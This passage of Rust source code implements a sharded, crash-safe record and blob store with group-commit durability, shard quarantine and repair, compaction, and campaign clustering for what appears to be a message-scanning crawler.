            recover_truncated_bytes: reg.counter("store.recover.truncated_bytes", Deterministic),
            blob_writes: reg.counter("store.blob.writes", Deterministic),
            blob_bytes: reg.counter("store.blob.bytes", Deterministic),
            blob_dedup_hits: reg.counter("store.blob.dedup_hits", Deterministic),
            shards_total: reg.gauge("store.shards.total", Deterministic),
            shards_quarantined: reg.gauge("store.shards.quarantined", Deterministic),
            repair_calls: reg.counter("store.repair.calls", Deterministic),
            repair_records: reg.counter("store.repair.records", Deterministic),
            gc_blobs: reg.counter("store.gc.blobs", Deterministic),
        }
    }
}

/// Point-in-time store shape, assembled from the live counters (no I/O).
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
pub struct StoreStats {
    /// Records served (healthy shards).
    pub records: usize,
    /// Segment files across all shards.
    pub segments: usize,
    /// Total log bytes (recovered + appended this session).
    pub log_bytes: u64,
    /// Distinct blobs stored.
    pub blobs: usize,
    /// Shards in the store.
    pub shards: usize,
    /// Shards currently quarantined.
    pub quarantined: usize,
    /// Records appended this session.
    pub appended: u64,
    /// Append errors this session (each one poisons a `StoreSink`).
    pub append_errors: u64,
    /// Group-commit barriers that acked at least one record this session.
    pub commit_batches: u64,
    /// Records acked by a durable barrier this session.
    pub acked: u64,
    /// Records appended but not yet covered by a barrier.
    pub pending: u64,
    /// Fsyncs issued this session.
    pub fsyncs: u64,
    /// Blob dedup hits this session.
    pub blob_dedup_hits: u64,
}

impl StoreStats {
    /// Whether any shard is quarantined.
    pub fn is_degraded(&self) -> bool {
        self.quarantined > 0
    }
}

/// A cloneable, lock-free window onto one store's live counters (see
/// [`Store::watch`]). Telemetry handles share their instruments, so the
/// watch keeps reading live values however long the store itself stays
/// locked inside a writer.
#[derive(Clone)]
pub struct StoreWatch {
    append_records: CounterHandle,
    append_errors: CounterHandle,
    append_pending: GaugeHandle,
    commit_batches: CounterHandle,
    commit_records: HistogramHandle,
    fsync_calls: CounterHandle,
    shards_quarantined: GaugeHandle,
}

impl StoreWatch {
    /// Records appended this session (acked or not).
    pub fn appended(&self) -> u64 {
        self.append_records.get()
    }

    /// Append errors this session.
    pub fn append_errors(&self) -> u64 {
        self.append_errors.get()
    }

    /// Records in the unacked window right now.
    pub fn pending(&self) -> u64 {
        self.append_pending.level()
    }

    /// Durable barriers that acked at least one record this session.
    pub fn commit_batches(&self) -> u64 {
        self.commit_batches.get()
    }

    /// Records covered by a completed durable barrier this session (the
    /// commit histogram's sum: every barrier observes its batch size).
    pub fn acked(&self) -> u64 {
        self.commit_records.sum() as u64
    }

    /// Fsyncs issued this session.
    pub fn fsyncs(&self) -> u64 {
        self.fsync_calls.get()
    }

    /// Whether any shard is quarantined (degraded, not down).
    pub fn is_degraded(&self) -> bool {
        self.shards_quarantined.level() > 0
    }
}

fn corrupt(path: &Path, what: impl std::fmt::Display) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, format!("{}: {what}", path.display()))
}

/// Parse the `STORE` manifest: `v2 shards=N`.
fn parse_manifest(text: &str) -> Option<usize> {
    let rest = text.trim().strip_prefix("v2 shards=")?;
    let n: usize = rest.parse().ok()?;
    (1..=256).contains(&n).then_some(n)
}

/// Durably create the `STORE` manifest.
fn write_manifest(vfs: &Arc<dyn Vfs>, root: &Path, shards: usize) -> io::Result<()> {
    let tmp = root.join("STORE.tmp");
    vfs.write(&tmp, format!("v2 shards={shards}\n").as_bytes())?;
    vfs.fsync(&tmp)?;
    vfs.rename(&tmp, &root.join("STORE"))?;
    vfs.sync_dir(root)
}

/// Migrate a v1 single-log store (`CURRENT` + `segments-*` at the root)
/// into shard 0 of a 1-shard v2 layout.
fn migrate_v1(vfs: &Arc<dyn Vfs>, root: &Path) -> io::Result<()> {
    let shard0 = root.join(crate::shard::shard_dir_name(0));
    vfs.create_dir_all(&shard0)?;
    for name in vfs.read_dir_names(root)? {
        if name == "CURRENT" || crate::shard::parse_generation_name(&name).is_some() {
            vfs.rename(&root.join(&name), &shard0.join(&name))?;
        }
    }
    vfs.sync_dir(&shard0)?;
    vfs.sync_dir(root)?;
    write_manifest(vfs, root, 1)
}

/// The persistent content-addressed crawl store.
#[derive(Debug)]
pub struct Store {
    root: PathBuf,
    vfs: Arc<dyn Vfs>,
    opts: StoreOptions,
    shards: Vec<Shard>,
    blobs: BlobStore,
    recovery: RecoveryReport,
    metrics: MetricsRegistry,
    m: StoreMetrics,
    tracer: Tracer,
    /// Records appended since the last durable barrier (the unacked
    /// window — a crash may lose exactly these, never an acked record).
    pending_records: u64,
    /// Frame bytes appended since the last barrier.
    pending_bytes: u64,
    /// Delivery-time span `(oldest, newest)` of the pending records.
    pending_span: Option<(SimTime, SimTime)>,
    /// Records acked by a completed barrier this session.
    acked: u64,
    /// Whether the one-shot `store.poisoned` instant fired.
    poison_noted: bool,
}

impl Store {
    /// Open (creating or recovering) the store at `root` with default
    /// options.
    ///
    /// # Errors
    ///
    /// I/O failure. Corruption never fails the open — it quarantines the
    /// affected shard (see [`Store::recovery`]).
    pub fn open(root: &Path) -> io::Result<Store> {
        Store::open_with(root, StoreOptions::default())
    }

    /// Open with explicit [`StoreOptions`]. See the module docs for the
    /// recovery contract.
    ///
    /// # Errors
    ///
    /// I/O failure, or an unreadable store manifest.
    pub fn open_with(root: &Path, opts: StoreOptions) -> io::Result<Store> {
        Store::open_with_vfs(root, opts, RealVfs::arc())
    }

    /// Open against an explicit [`Vfs`] — the injection point for
    /// [`FaultVfs`](crate::vfs::FaultVfs)-driven crash and fault testing.
    ///
    /// # Errors
    ///
    /// I/O failure, or an unreadable store manifest.
    pub fn open_with_vfs(
        root: &Path,
        opts: StoreOptions,
        vfs: Arc<dyn Vfs>,
    ) -> io::Result<Store> {
        assert!(opts.shards >= 1, "a store needs at least one shard");
        vfs.create_dir_all(root)?;
        let metrics = MetricsRegistry::new();
        let m = StoreMetrics::register(&metrics);
        let tracer = Tracer::new(opts.tracing);

        // Resolve the shard count: manifest > legacy migration > creation.
        let manifest_path = root.join("STORE");
        let shard_count = if vfs.exists(&manifest_path) {
            let text = String::from_utf8_lossy(&vfs.read(&manifest_path)?).to_string();
            parse_manifest(&text)
                .ok_or_else(|| corrupt(&manifest_path, format!("bad manifest {text:?}")))?
        } else if vfs.exists(&root.join("CURRENT")) {
            migrate_v1(&vfs, root)?;
            1
        } else {
            write_manifest(&vfs, root, opts.shards)?;
            opts.shards
        };

        let blobs = BlobStore::open(Arc::clone(&vfs), &root.join("blobs"))?;

        // Replay every shard over the work-stealing pool.
        let workers = opts.recovery_workers.max(1).min(shard_count);
        let opened = crawlerbox::run_stealing(workers, shard_count, |_, i| {
            Shard::open(Arc::clone(&vfs), root, i, &opts, &blobs, &m, &tracer)
        });
        let mut shards = Vec::with_capacity(shard_count);
        for (i, slot) in opened.into_iter().enumerate() {
            match slot {
                Some(Ok(shard)) => shards.push(shard),
                Some(Err(e)) => return Err(e),
                None => {
                    return Err(io::Error::new(
                        io::ErrorKind::Other,
                        format!("recovery worker died opening shard {i}"),
                    ))
                }
            }
        }

        let mut recovery = RecoveryReport { blobs: blobs.len(), ..RecoveryReport::default() };
        for shard in &shards {
            recovery.segments += shard.segments();
            recovery.records += shard.len();
            if let Some(torn) = shard.torn() {
                recovery.torn.push(torn.clone());
            }
            if let ShardHealth::Quarantined { reason, .. } = shard.health() {
                recovery.quarantined.push((shard.id(), reason.clone()));
            }
        }
        m.shards_total.add(shard_count as u64);
        m.shards_quarantined.add(recovery.quarantined.len() as u64);

        Ok(Store {
            root: root.to_path_buf(),
            vfs,
            opts,
            shards,
            blobs,
            recovery,
            metrics,
            m,
            tracer,
            pending_records: 0,
            pending_bytes: 0,
            pending_span: None,
            acked: 0,
            poison_noted: false,
        })
    }

    /// Append one record: its artifacts go to the blob store first, then
    /// the canonically encoded record (preceded by a blob-ref frame when
    /// artifacts are present) is framed onto its shard's log.
    ///
    /// This is the owned-record **reference oracle** of the ingest
    /// pipeline; [`Store::append_batch`] must produce bit-identical logs.
    ///
    /// # Errors
    ///
    /// I/O failure writing blobs or the segment, or the record routing to
    /// a quarantined shard (repair it first, or re-scan after repair).
    pub fn append(&mut self, record: &ScanRecord) -> io::Result<()> {
        match self.append_oracle(record) {
            Ok(()) => Ok(()),
            Err(e) => {
                self.note_append_error();
                Err(e)
            }
        }
    }

    fn append_oracle(&mut self, record: &ScanRecord) -> io::Result<()> {
        let shard_id = shard_of(record.content_hash, self.shards.len());
        if let Some(e) = self.shards[shard_id].quarantine_refusal() {
            // Check health before writing blobs, so a refused append has
            // no side effects.
            return Err(e);
        }

        // Blobs before the record frame: recovery must never surface a
        // record whose artifacts are missing. A crash in this window
        // leaves orphan blobs for gc_orphan_blobs, never dangling refs.
        let mut refs = Vec::with_capacity(record.artifacts.len());
        let mut blob_fields = Vec::with_capacity(record.artifacts.len());
        for artifact in &record.artifacts {
            let written = self.blobs.put(artifact.hash, &artifact.bytes)?;
            if written {
                self.m.blob_writes.incr();
                self.m.blob_bytes.add(artifact.bytes.len() as u64);
            } else {
                self.m.blob_dedup_hits.incr();
            }
            refs.push(artifact.hash);
            blob_fields.push((artifact.kind.label(), artifact.bytes.len(), written));
        }

        let payload =
            serde_json::to_vec(record).map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
        let wrote = self.shards[shard_id].append_payload(&payload, &refs)?;
        self.m.append_records.incr();
        self.m.append_bytes.add(wrote);
        self.shards[shard_id].index_record(record, refs);
        if self.shards[shard_id].segment_full() {
            // Seal the full segment durably — blobs first, so a frame can
            // never become durable ahead of the evidence it references.
            self.blobs.sync()?;
            self.shards[shard_id].seal_active_segment()?;
            self.m.fsync_calls.incr();
        }

        if let Some(_guard) = self.tracer.message(record.message_id) {
            with_active(|t| {
                t.begin(
                    "store.append",
                    vec![
                        ("bytes", payload.len().to_string()),
                        ("shard", shard_id.to_string()),
                        ("hash", format!("{:032x}", record.content_hash)),
                    ],
                );
                for (kind, len, written) in &blob_fields {
                    t.instant(
                        "store.blob",
                        vec![
                            ("kind", kind.to_string()),
                            ("bytes", len.to_string()),
                            ("dedup", (!written).to_string()),
                        ],
                    );
                }
                t.end();
            });
        }

        self.note_pending(wrote, record.delivered_at);
        self.commit_if_due()
    }

    /// Append a batch of records already encoded on scan workers: blob
    /// puts run serially in batch order, then the pre-built frames fan out
    /// to their shards over the work-stealing pool — each touched shard is
    /// owned by exactly one task, which appends that shard's frames in
    /// batch order, so the per-shard log is bit-identical to feeding the
    /// same records one by one through [`Store::append`], whatever the
    /// scheduler or batch size.
    ///
    /// # Errors
    ///
    /// Like [`Store::append`]; any record routing to a quarantined shard
    /// refuses the whole batch before side effects.
    pub fn append_batch(&mut self, batch: Vec<EncodedRecord>) -> io::Result<()> {
        match self.append_batch_inner(batch) {
            Ok(()) => Ok(()),
            Err(e) => {
                self.note_append_error();
                Err(e)
            }
        }
    }

    fn append_batch_inner(&mut self, batch: Vec<EncodedRecord>) -> io::Result<()> {
        if batch.is_empty() {
            return Ok(());
        }
        let shard_count = self.shards.len();
        // Health pre-check of every target shard: a refused batch has no
        // side effects (mirrors the oracle's refusal-before-blobs rule).
        for rec in &batch {
            if let Some(e) =
                self.shards[shard_of(rec.meta.content_hash, shard_count)].quarantine_refusal()
            {
                return Err(e);
            }
        }

        // Blobs before any frame, in batch order — recovery must never
        // surface a record whose artifacts are missing.
        let mut blob_fields = Vec::with_capacity(batch.len());
        for rec in &batch {
            let mut fields = Vec::with_capacity(rec.artifacts.len());
            for artifact in &rec.artifacts {
                let written = self.blobs.put(artifact.hash, &artifact.bytes)?;
                if written {
                    self.m.blob_writes.incr();
                    self.m.blob_bytes.add(artifact.bytes.len() as u64);
                } else {
                    self.m.blob_dedup_hits.incr();
                }
                fields.push((artifact.kind.label(), artifact.bytes.len(), written));
            }
            blob_fields.push(fields);
        }

        // Group frames by shard, preserving batch order within each shard.
        let mut per_shard: Vec<Vec<usize>> = vec![Vec::new(); shard_count];
        let mut incoming = vec![0u64; shard_count];
        for (pos, rec) in batch.iter().enumerate() {
            let sid = shard_of(rec.meta.content_hash, shard_count);
            per_shard[sid].push(pos);
            incoming[sid] += rec.frame.len() as u64;
        }

        // If any shard may seal a segment during this batch, the blob
        // directory must be durable first: a sealed (interior) segment
        // must never reference non-durable blobs, or a crash would turn
        // the batch into wrongful quarantine instead of a torn tail.
        let may_seal = self.shards.iter().enumerate().any(|(i, s)| {
            incoming[i] > 0
                && s.active_segment_bytes() + incoming[i] >= self.opts.segment_target_bytes
        });
        if may_seal {
            self.blobs.sync()?;
        }

        // Fan the appends out: one task per touched shard.
        let touched: Vec<usize> =
            (0..shard_count).filter(|&i| !per_shard[i].is_empty()).collect();
        let workers = self.opts.recovery_workers.max(1).min(touched.len());
        let results = {
            let slots: Vec<Mutex<&mut Shard>> =
                self.shards.iter_mut().map(Mutex::new).collect();
            crawlerbox::run_stealing(workers, touched.len(), |_, j| {
                let sid = touched[j];
                let mut shard = slots[sid].lock().expect("shard slot");
                let mut wrote_each = Vec::with_capacity(per_shard[sid].len());
                let mut seals = 0u64;
                for &pos in &per_shard[sid] {
                    let wrote = shard.append_frame(&batch[pos].frame)?;
                    wrote_each.push((pos, wrote));
                    if shard.segment_full() {
                        shard.seal_active_segment()?;
                        seals += 1;
                    }
                }
                Ok::<_, io::Error>((wrote_each, seals))
            })
        };
        let mut wrote_by_pos = vec![0u64; batch.len()];
        let mut seals_total = 0u64;
        for (j, slot) in results.into_iter().enumerate() {
            let (wrote_each, seals) = match slot {
                Some(r) => r?,
                None => {
                    return Err(io::Error::new(
                        io::ErrorKind::Other,
                        format!("append worker died on shard {}", touched[j]),
                    ))
                }
            };
            for (pos, wrote) in wrote_each {
                wrote_by_pos[pos] = wrote;
            }
            seals_total += seals;
        }
        self.m.fsync_calls.add(seals_total);

        // Index and account in batch (delivery) order.
        for (pos, rec) in batch.into_iter().enumerate() {
            let EncodedRecord { delivered_at, meta, payload_len, refs, .. } = rec;
            let sid = shard_of(meta.content_hash, shard_count);
            let hash = meta.content_hash;
            let message_id = meta.message_id;
            self.m.append_records.incr();
            self.m.append_bytes.add(wrote_by_pos[pos]);
            self.shards[sid].index_encoded(meta, refs);
            if let Some(_guard) = self.tracer.message(message_id) {
                with_active(|t| {
                    t.begin(
                        "store.append",
                        vec![
                            ("bytes", payload_len.to_string()),
                            ("shard", sid.to_string()),
                            ("hash", format!("{hash:032x}")),
                        ],
                    );
                    for (kind, len, written) in &blob_fields[pos] {
                        t.instant(
                            "store.blob",
                            vec![
                                ("kind", kind.to_string()),
                                ("bytes", len.to_string()),
                                ("dedup", (!written).to_string()),
                            ],
                        );
                    }
                    t.end();
                });
            }
            self.note_pending(wrote_by_pos[pos], delivered_at);
        }
        self.commit_if_due()
    }

    /// Track one appended-but-unacked record.
    fn note_pending(&mut self, bytes: u64, at: SimTime) {
        self.pending_records += 1;
        self.pending_bytes += bytes;
        self.m.append_pending.add(1);
        self.pending_span = Some(match self.pending_span {
            None => (at, at),
            Some((lo, hi)) => (lo.min(at), hi.max(at)),
        });
    }

    /// Whether the pending window must commit now (durable ingest mode
    /// only): batch count reached, byte cap reached, or the sim-time hold
    /// cap exceeded.
    fn commit_due(&self) -> bool {
        if !self.opts.fsync_each_append || self.pending_records == 0 {
            return false;
        }
        if self.pending_records >= self.opts.commit_batch.max(1) as u64 {
            return true;
        }
        if self.opts.commit_max_bytes > 0 && self.pending_bytes >= self.opts.commit_max_bytes {
            return true;
        }
        if self.opts.commit_max_hold > SimDuration::ZERO {
            if let Some((oldest, newest)) = self.pending_span {
                if newest.since(oldest) >= self.opts.commit_max_hold {
                    return true;
                }
            }
        }
        false
    }

    fn commit_if_due(&mut self) -> io::Result<()> {
        if self.commit_due() {
            self.sync()?;
        }
        Ok(())
    }

    /// Count an append error, and emit the one-shot `store.poisoned`
    /// instant the first time (sinks poison themselves on the first
    /// error, so the trace marks where persistence stopped).
    fn note_append_error(&mut self) {
        self.m.append_errors.incr();
        if !self.poison_noted {
            self.poison_noted = true;
            if let Some(_guard) = self.tracer.message(STORE_OP_TRACE_ID) {
                with_active(|t| {
                    t.instant("store.poisoned", vec![]);
                });
            }
        }
    }

    /// Records appended but not yet acked by a durable barrier.
    pub fn pending_appends(&self) -> u64 {
        self.pending_records
    }

    /// Records acked by a completed barrier this session. A crash loses
    /// at most the pending window, never an acked record.
    pub fn acked_appends(&self) -> u64 {
        self.acked
    }

    /// The configured group-commit batch size.
    pub fn commit_batch(&self) -> usize {
        self.opts.commit_batch.max(1)
    }

    /// The configured group-commit byte cap (0 = disabled).
    pub fn commit_max_bytes(&self) -> u64 {
        self.opts.commit_max_bytes
    }

    /// The configured group-commit sim-time hold cap (ZERO = disabled).
    pub fn commit_max_hold(&self) -> SimDuration {
        self.opts.commit_max_hold
    }

    /// Flush buffered log writes to the OS (no fsync).
    ///
    /// # Errors
    ///
    /// I/O failure flushing a segment writer.
    pub fn flush(&mut self) -> io::Result<()> {
        for shard in &mut self.shards {
            shard.flush()?;
        }
        Ok(())
    }

    /// The durable-write barrier: fsync the blob directory (blob renames
    /// become durable *before* the frames referencing them), then every
    /// dirty shard's segment and generation directory. Clean shards cost
    /// zero fsyncs, so a sync after a read-only window is free. On
    /// success every pending record becomes **acked** — this is the
    /// group-commit ack point.
    ///
    /// # Errors
    ///
    /// I/O failure flushing or syncing. The pending window stays unacked.
    pub fn sync(&mut self) -> io::Result<()> {
        self.blobs.sync()?;
        let mut synced = 0u64;
        for shard in &mut self.shards {
            if shard.sync()? {
                synced += 1;
            }
        }
        if synced > 0 {
            self.m.fsync_calls.add(synced);
            if let Some(_guard) = self.tracer.message(STORE_OP_TRACE_ID) {
                with_active(|t| {
                    t.instant("store.fsync", vec![("shards", synced.to_string())]);
                });
            }
        }
        if self.pending_records > 0 {
            self.m.commit_batches.incr();
            self.m.commit_records.observe(self.pending_records as i64);
            self.m.append_pending.sub(self.pending_records);
            self.acked += self.pending_records;
            self.pending_records = 0;
            self.pending_bytes = 0;
            self.pending_span = None;
        }
        Ok(())
    }

    /// Decode every record from disk, shard by shard in shard order (log
    /// order within each shard).
    ///
    /// # Errors
    ///
    /// I/O failure, frames that fail CRC/decoding, or any quarantined
    /// shard (repair first).
    pub fn read_all(&mut self) -> io::Result<Vec<ScanRecord>> {
        let mut out = Vec::new();
        for payload in self.read_payloads()? {
            out.push(
                serde_json::from_slice(&payload)
                    .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?,
            );
        }
        Ok(out)
    }

    /// Raw canonical payload bytes of every record, shard by shard in
    /// shard order — the byte-identity primitive the determinism tests
    /// compare. Blob-ref frames are not included. Shards are read in
    /// parallel over the work-stealing pool and concatenated in shard
    /// order, so the output is scheduler-independent.
    ///
    /// # Errors
    ///
    /// I/O failure, non-clean frames, or any quarantined shard.
    pub fn read_payloads(&mut self) -> io::Result<Vec<Vec<u8>>> {
        let workers = self.opts.recovery_workers.max(1).min(self.shards.len());
        let slots: Vec<Mutex<&mut Shard>> =
            self.shards.iter_mut().map(Mutex::new).collect();
        let results = crawlerbox::run_stealing(workers, slots.len(), |_, i| {
            slots[i].lock().expect("shard slot").read_payloads()
        });
        let mut out = Vec::new();
        for (i, slot) in results.into_iter().enumerate() {
            match slot {
                Some(r) => out.extend(r?),
                None => {
                    return Err(io::Error::new(
                        io::ErrorKind::Other,
                        format!("read worker died on shard {i}"),
                    ))
                }
            }
        }
        Ok(out)
    }

    /// Fetch the canonical payloads of specific records, addressed as
    /// `(shard id, shard-local seq)` (the addressing [`Store::metas`]
    /// yields). The fetches fan out over the work-stealing pool, each
    /// shard paging in only the segments its requested records live in —
    /// the point-query path, as opposed to the full-log
    /// [`Store::read_payloads`] replay. Results come back in input order.
    ///
    /// # Errors
    ///
    /// I/O failure, an out-of-range address, or a quarantined shard.
    pub fn fetch_payloads(&mut self, keys: &[(usize, usize)]) -> io::Result<Vec<Vec<u8>>> {
        let shard_count = self.shards.len();
        let mut positions: Vec<Vec<usize>> = vec![Vec::new(); shard_count];
        let mut seqs: Vec<Vec<usize>> = vec![Vec::new(); shard_count];
        for (pos, &(sid, seq)) in keys.iter().enumerate() {
            if sid >= shard_count {
                return Err(io::Error::new(
                    io::ErrorKind::InvalidInput,
                    format!("no shard {sid}: store has {shard_count} shard(s)"),
                ));
            }
            positions[sid].push(pos);
            seqs[sid].push(seq);
        }
        let touched: Vec<usize> = (0..shard_count).filter(|&i| !seqs[i].is_empty()).collect();
        let workers = self.opts.recovery_workers.max(1).min(touched.len().max(1));
        let slots: Vec<Mutex<&mut Shard>> =
            self.shards.iter_mut().map(Mutex::new).collect();
        let results = crawlerbox::run_stealing(workers, touched.len(), |_, j| {
            let sid = touched[j];
            slots[sid].lock().expect("shard slot").fetch_payloads(&seqs[sid])
        });
        let mut out = vec![Vec::new(); keys.len()];
        for (j, slot) in results.into_iter().enumerate() {
            let sid = touched[j];
            let payloads = match slot {
                Some(r) => r?,
                None => {
                    return Err(io::Error::new(
                        io::ErrorKind::Other,
                        format!("fetch worker died on shard {sid}"),
                    ))
                }
            };
            for (k, payload) in payloads.into_iter().enumerate() {
                out[positions[sid][k]] = payload;
            }
        }
        Ok(out)
    }

    /// Walk every shard's frames and every blob, CRC/hash-checking all of
    /// it, including that every blob ref on disk resolves to a stored
    /// blob. A quarantined shard contributes a fault, not an error.
    ///
    /// # Errors
    ///
    /// Only on I/O failure listing directories; integrity problems are
    /// returned as faults in the report.
    pub fn verify(&mut self) -> io::Result<VerifyReport> {
        let mut report = VerifyReport::default();
        let mut faults: Vec<(PathBuf, String)> = Vec::new();
        for shard in &mut self.shards {
            shard.verify_into(&self.blobs, &mut report.records, &mut report.segments, &mut faults)?;
        }
        report.faults =
            faults.into_iter().map(|(path, reason)| VerifyFault { path, reason }).collect();
        report.blobs = self.blobs.len();
        for fault in self.blobs.verify()? {
            report.faults.push(VerifyFault {
                path: self.root.join("blobs"),
                reason: format!("blob {:032x}: {}", fault.hash, fault.reason),
            });
        }
        Ok(report)
    }

    /// Compact every healthy shard (newest record per content hash), in
    /// parallel over the recovery pool.
    ///
    /// # Errors
    ///
    /// I/O failure, or any shard quarantined (repair first — compaction
    /// must not silently discard a quarantined shard's salvageable data).
    pub fn compact(&mut self) -> io::Result<CompactReport> {
        if let Some((id, reason)) = self.quarantined().into_iter().next() {
            return Err(io::Error::new(
                io::ErrorKind::InvalidData,
                format!("cannot compact: shard {id} is quarantined ({reason})"),
            ));
        }
        // Rewritten generations re-reference existing blobs; any pending
        // blob renames must be durable before a new generation can be.
        self.blobs.sync()?;
        self.flush()?;
        let workers = self.opts.recovery_workers.max(1).min(self.shards.len());
        let slots: Vec<std::sync::Mutex<&mut Shard>> =
            self.shards.iter_mut().map(std::sync::Mutex::new).collect();
        let results = crawlerbox::run_stealing(workers, slots.len(), |_, i| {
            slots[i].lock().expect("shard slot").compact()
        });
        let mut report = CompactReport { kept: 0, dropped: 0, segments_before: 0, segments_after: 0 };
        for (i, slot) in results.into_iter().enumerate() {
            let (kept, dropped, before, after) = match slot {
                Some(r) => r?,
                None => {
                    return Err(io::Error::new(
                        io::ErrorKind::Other,
                        format!("compaction worker died on shard {i}"),
                    ))
                }
            };
            report.kept += kept;
            report.dropped += dropped;
            report.segments_before += before;
            report.segments_after += after;
        }
        Ok(report)
    }

    /// Repair shard `id`, or every quarantined shard when `None`:
    /// re-adjudicate from the last valid frames, rewrite into a fresh
    /// generation, return the shard(s) to service.
    ///
    /// # Errors
    ///
    /// I/O failure, or an out-of-range shard id.
    pub fn repair(&mut self, id: Option<usize>) -> io::Result<Vec<RepairReport>> {
        let targets: Vec<usize> = match id {
            Some(i) => {
                if i >= self.shards.len() {
                    return Err(io::Error::new(
                        io::ErrorKind::InvalidInput,
                        format!("no shard {i}: store has {} shard(s)", self.shards.len()),
                    ));
                }
                vec![i]
            }
            None => self
                .shards
                .iter()
                .filter(|s| !s.health().is_healthy())
                .map(Shard::id)
                .collect(),
        };
        self.blobs.sync()?;
        let mut reports = Vec::with_capacity(targets.len());
        for i in targets {
            reports.push(self.shards[i].repair(&self.blobs, &self.m)?);
        }
        Ok(reports)
    }

    /// Remove blobs referenced by no record of any shard. Refuses while
    /// any shard is quarantined — its references are unknown, and deleting
    /// its evidence would turn a recoverable corruption into data loss.
    ///
    /// # Errors
    ///
    /// I/O failure, or a quarantined shard.
    pub fn gc_orphan_blobs(&mut self) -> io::Result<Vec<u128>> {
        if let Some((id, reason)) = self.quarantined().into_iter().next() {
            return Err(io::Error::new(
                io::ErrorKind::InvalidData,
                format!("cannot gc blobs: shard {id} is quarantined ({reason})"),
            ));
        }
        let mut live: HashSet<u128> = HashSet::new();
        for shard in &self.shards {
            live.extend(shard.live_blob_refs());
        }
        let removed = self.blobs.remove_except(&live)?;
        self.m.gc_blobs.add(removed.len() as u64);
        Ok(removed)
    }

    /// Cluster the healthy shards' records into campaigns. Each shard's
    /// index clusters into a fragment on the work-stealing pool; the
    /// fragments are absorbed in shard order, which is provably
    /// bit-identical to serial clustering (the output depends only on the
    /// connected components and node numbering, and
    /// [`CampaignClusterer::absorb`] preserves both).
    pub fn campaigns(&self) -> Vec<Campaign> {
        let indexes: Vec<(usize, &StoreIndex)> =
            self.shards.iter().map(|s| (s.id(), s.index())).collect();
        let workers = self.opts.recovery_workers.max(1).min(indexes.len().max(1));
        let mut clusterer = CampaignClusterer::new();
        if workers <= 1 || indexes.len() <= 1 {
            for (id, index) in indexes {
                clusterer.add_index(id, index);
            }
            return clusterer.finish();
        }
        let fragments = crawlerbox::run_stealing(workers, indexes.len(), |_, i| {
            let mut fragment = CampaignClusterer::new();
            fragment.add_index(indexes[i].0, indexes[i].1);
            fragment
        });
        for (i, slot) in fragments.into_iter().enumerate() {
            match slot {
                Some(fragment) => clusterer.absorb(fragment),
                // A dead worker degrades that shard to the serial path.
                None => clusterer.add_index(indexes[i].0, indexes[i].1),
            }
        }
        clusterer.finish()
    }

    /// Every served record's meta, as `(shard id, meta)`, shard by shard
    /// in per-shard log order.
    pub fn metas(&self) -> impl Iterator<Item = (usize, &RecordMeta)> {
        self.shards
            .iter()
            .flat_map(|s| s.index().metas().iter().map(move |m| (s.id(), m)))
    }

    /// Class histogram over all healthy shards.
    pub fn class_counts(&self) -> BTreeMap<MessageClass, usize> {
        let mut out = BTreeMap::new();
        for shard in &self.shards {
            for (class, n) in shard.index().class_counts() {
                *out.entry(class).or_insert(0) += n;
            }
        }
        out
    }

    /// Landing-domain counts over all healthy shards.
    pub fn domain_counts(&self) -> BTreeMap<String, usize> {
        let mut out = BTreeMap::new();
        for shard in &self.shards {
            for (domain, n) in shard.index().domain_counts() {
                *out.entry(domain.to_string()).or_insert(0) += n;
            }
        }
        out
    }

    /// All recorded content hashes across healthy shards (the incremental
    /// re-scan skip set — a quarantined shard's records re-scan as new,
    /// which is how its data gets refilled after repair).
    pub fn known_hashes(&self) -> HashSet<u128> {
        let mut out = HashSet::new();
        for shard in &self.shards {
            shard.known_hashes_into(&mut out);
        }
        out
    }

    /// Whether `hash` is already recorded in a healthy shard.
    pub fn contains_hash(&self, hash: u128) -> bool {
        let shard = shard_of(hash, self.shards.len());
        self.shards[shard].index().contains_hash(hash)
    }

    /// Records served (healthy shards).
    pub fn len(&self) -> usize {
        self.shards.iter().map(Shard::len).sum()
    }

    /// Whether no records are served.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Read a stored blob by content hash.
    ///
    /// # Errors
    ///
    /// I/O failure reading the blob file.
    pub fn blob(&self, hash: u128) -> io::Result<Option<Vec<u8>>> {
        self.blobs.get(hash)
    }

    /// The blob directory index.
    pub fn blobs(&self) -> &BlobStore {
        &self.blobs
    }

    /// The shards, in id order.
    pub fn shards(&self) -> &[Shard] {
        &self.shards
    }

    /// Shard `id`, if in range.
    pub fn shard(&self, id: usize) -> Option<&Shard> {
        self.shards.get(id)
    }

    /// Number of shards (fixed at store creation).
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// Quarantined shards as `(id, reason)`.
    pub fn quarantined(&self) -> Vec<(usize, String)> {
        self.shards
            .iter()
            .filter_map(|s| match s.health() {
                ShardHealth::Quarantined { reason, .. } => Some((s.id(), reason.clone())),
                ShardHealth::Healthy => None,
            })
            .collect()
    }

    /// Whether any shard is quarantined (the store still serves healthy
    /// shards, but writes to the quarantined ones fail).
    pub fn is_degraded(&self) -> bool {
        self.shards.iter().any(|s| !s.health().is_healthy())
    }

    /// What the last open found and recovered.
    pub fn recovery(&self) -> &RecoveryReport {
        &self.recovery
    }

    /// The store's metric registry (`store.*` counters and gauges).
    pub fn metrics(&self) -> &MetricsRegistry {
        &self.metrics
    }

    /// The commit-batch-size histogram (`store.commit.batch_records`):
    /// how many records each durable barrier acked this session. Handles
    /// share the underlying instrument, so the clone stays live.
    pub fn commit_batch_sizes(&self) -> HistogramHandle {
        self.m.commit_records.clone()
    }

    /// A lock-free watch over this store's live counters.
    ///
    /// The daemon serializes appends through a mutex per partition, but
    /// `/health` and `/metrics` must answer without contending on the
    /// write path — a [`StoreWatch`] taken at open time keeps observing
    /// the live instruments without touching the store again.
    pub fn watch(&self) -> StoreWatch {
        StoreWatch {
            append_records: self.m.append_records.clone(),
            append_errors: self.m.append_errors.clone(),
            append_pending: self.m.append_pending.clone(),
            commit_batches: self.m.commit_batches.clone(),
            commit_records: self.m.commit_records.clone(),
            fsync_calls: self.m.fsync_calls.clone(),
            shards_quarantined: self.m.shards_quarantined.clone(),
        }
    }

    /// This store's campaign-cluster fragment, with shard ids offset by
    /// `shard_base` so fragments from several independent stores (the
    /// daemon's partitions) can be absorbed into one cross-partition
    /// clustering without id collisions. Absorb fragments in partition
    /// order for the same bit-identical-to-serial guarantee
